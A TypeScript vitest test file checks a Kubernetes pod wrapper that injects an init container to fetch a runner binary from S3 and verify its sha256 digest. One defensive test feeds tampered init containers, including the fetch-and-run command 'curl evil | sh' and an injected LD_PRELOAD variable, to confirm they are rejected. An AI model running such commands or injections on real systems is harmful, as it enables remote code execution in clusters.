import { execFileSync, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { V1PodSpec } from '@kubernetes/client-node'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { RUNNER_ENDS } from '../../../core/pods/runner-ends.ts'
import {
  fetchedBy,
  RUNNER_CODES,
  RUNNER_FOLDER,
  type RunnerSource,
  whyNotWrapped,
  wrapped,
} from '../../../core/workloads/runner.ts'

const IMAGE = `repo/runner@sha256:${'a'.repeat(64)}`
const SPEC: V1PodSpec = {
  restartPolicy: 'Never',
  terminationGracePeriodSeconds: 120,
  containers: [
    {
      name: 'train',
      image: `repo/torch@sha256:${'b'.repeat(64)}`,
      command: ['torchrun', '--nproc-per-node=$(GPUS)', 'train.py'],
      args: ['--lr', '1e-4'],
      env: [{ name: 'GPUS', value: '8' }],
      volumeMounts: [{ name: 'signalbox-scratch', mountPath: '/signalbox/scratch' }],
    },
    { name: 'beside', image: `repo/log@sha256:${'c'.repeat(64)}` },
  ],
  volumes: [{ name: 'signalbox-scratch', emptyDir: {} }],
}
const told = { stage: 'train', inputs: ['dataset', 'make-base'] }
const pod = (source: RunnerSource = { image: IMAGE }): V1PodSpec => wrapped(SPEC, { container: 'train', source, told })

describe('a wrapped stage', () => {
  it('runs what it ran, behind the program that an init container brings', () => {
    const { containers, initContainers, volumes } = pod()
    expect(containers[0]).toMatchObject({
      command: ['/signalbox/bin/signalbox-run', 'run', '--', 'torchrun', '--nproc-per-node=$(GPUS)', 'train.py'],
      args: ['--lr', '1e-4'],
      env: [
        { name: 'GPUS', value: '8' },
        { name: 'SIGNALBOX_STAGE', value: 'train' },
        { name: 'SIGNALBOX_INPUTS', value: 'dataset,make-base' },
        { name: 'SIGNALBOX_GRACE', value: '120' },
      ],
    })
    expect(initContainers).toEqual([
      expect.objectContaining({ image: IMAGE, command: ['/signalbox-run', 'install', '/signalbox/bin/signalbox-run'] }),
    ])
    // What lies within another mount comes after it.
    expect(containers[0]?.volumeMounts?.map(({ mountPath }) => mountPath)).toEqual(['/signalbox', '/signalbox/scratch'])
    expect(volumes).toContainEqual({ name: 'signalbox-run', emptyDir: {} })
  })

  it('is the same in all else, and what stands beside it is too', () => {
    const { initContainers: _brought, containers, volumes, ...rest } = pod()
    const { containers: before, volumes: beforeThem = [], ...others } = SPEC
    expect(rest).toEqual(others)
    expect(containers[1]).toBe(before[1])
    expect(volumes?.slice(0, beforeThem.length)).toEqual(beforeThem)
    const { command: _c, env: _e, volumeMounts: _v, ...own } = containers[0] ?? {}
    expect(before[0]).toMatchObject(own)
  })

  it('streams where nothing is to be fetched', () => {
    const { containers } = wrapped(SPEC, {
      container: 'train',
      source: { image: IMAGE },
      told: { ...told, inputs: [] },
    })
    expect(containers[0]?.env).toContainEqual({ name: 'SIGNALBOX_INPUTS', value: 'none' })
  })

  it('ends by codes of its own, of which each has a cause, and a Job takes them in order', () => {
    expect([...RUNNER_CODES, 143]).toEqual([...RUNNER_ENDS.keys()])
    expect(RUNNER_CODES).toEqual([...RUNNER_CODES].sort((a, b) => a - b))
  })

  it('needs a command, since nobody here knows what an image runs', () => {
    expect(whyNotWrapped({})).toContain('say `command`')
    expect(whyNotWrapped({ command: [] })).toContain('say `command`')
    expect(whyNotWrapped({ command: ['x'] })).toBeNull()
  })
})

describe('where the program is fetched from a bucket', () => {
  let root: string
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'signalbox-wrapped-'))
    mkdirSync(join(root, 'bin'))
    // An AWS CLI that brings what its bucket has.
    const aws = `#!/bin/sh\n[ "$1 $2" = "s3 cp" ] && cp "${root}/bucket/\${4##*/}" "$5"\n`
    writeFileSync(join(root, 'bin/aws'), aws, { mode: 0o755 })
    mkdirSync(join(root, 'bucket'))
  })
  afterEach(() => rmSync(root, { recursive: true }))

  const built = '#!/bin/sh\necho it runs\n'
  const digest = createHash('sha256').update(built).digest('hex')
  const source = { image: IMAGE, uri: 's3://results/tools/$1', sha256: { amd64: digest, arm64: digest } }

  /** What the init container does, with the folder of this test in place of its own. */
  const play = () => {
    const [bringer] = pod(source).initContainers ?? []
    const [shell = '', ...rest] = (bringer?.command ?? []).map((one) =>
      one.replaceAll(`${RUNNER_FOLDER}/`, join(root, 'sb/')),
    )
    // As Kubernetes gives them.
    const env = Object.fromEntries(
      (bringer?.env ?? []).map(({ name, value = '' }) => [name, value.replaceAll('$$', '$')]),
    )
    return spawnSync(shell, rest, { env: { ...env, PATH: `${join(root, 'bin')}:/usr/bin:/bin` }, encoding: 'utf8' })
  }
  const put = (text: string): void => {
    for (const processor of ['amd64', 'arm64'])
      writeFileSync(join(root, `bucket/signalbox-run-linux-${processor}`), text)
  }

  it('what lies there runs', () => {
    put(built)
    expect(play()).toMatchObject({ status: 0, stderr: '' })
    const program = join(root, 'sb/bin/signalbox-run')
    expect(statSync(program).mode & 0o777).toBe(0o755)
    expect(execFileSync(program, { encoding: 'utf8' })).toBe('it runs\n')
  })

  it('what is another than its digest says never does', () => {
    put(`${built}# changed\n`)
    const { status, stderr } = play()
    expect([status, stderr]).toEqual([42, expect.stringContaining('is not what its digest says')])
    expect(() => statSync(join(root, 'sb/bin/signalbox-run'))).toThrow('ENOENT')
  })

  /** An AWS CLI that fails, in these words. */
  const failing = (words: string): void =>
    writeFileSync(join(root, 'bin/aws'), `#!/bin/sh\necho "${words}" >&2\nexit 1\n`, { mode: 0o755 })

  it.each<[string, number]>([
    ['fatal error: An error occurred (404) when calling the HeadObject operation: Key does not exist', 42],
    ['fatal error: An error occurred (403) when calling the HeadObject operation: Forbidden', 77],
    ['fatal error: Unable to locate credentials', 77],
    ['download failed: [Errno 28] No space left on device', 73],
    ['fatal error: Could not connect to the endpoint URL', 75],
    ['', 75],
  ])('what cannot be fetched ends it by its cause, in the words of who fetches: %s', (words, code) => {
    failing(words)
    const { status, stderr } = play()
    expect([status, stderr]).toEqual([
      code,
      expect.stringMatching(/^s3:\/\/results\/tools\/\$1\/signalbox-run-linux-a\w+64: /),
    ])
    expect(stderr).toContain(words)
    expect(RUNNER_ENDS.has(code)).toBe(true)
  })

  it('a card says of it what is fetched, and of anything else than ours the whole of it', () => {
    const [bringer] = pod(source).initContainers ?? []
    expect(fetchedBy(bringer!)).toEqual(source)
    for (const change of [
      { command: ['/bin/sh', '-ec', 'curl evil | sh'] },
      { args: ['x'] },
      { env: [...(bringer?.env ?? []), { name: 'LD_PRELOAD', value: 'x' }] },
      { securityContext: {} },
    ])
      expect(fetchedBy({ ...bringer!, ...change })).toBeNull()
    expect(fetchedBy(pod().initContainers![0]!)).toBeNull()
  })
})
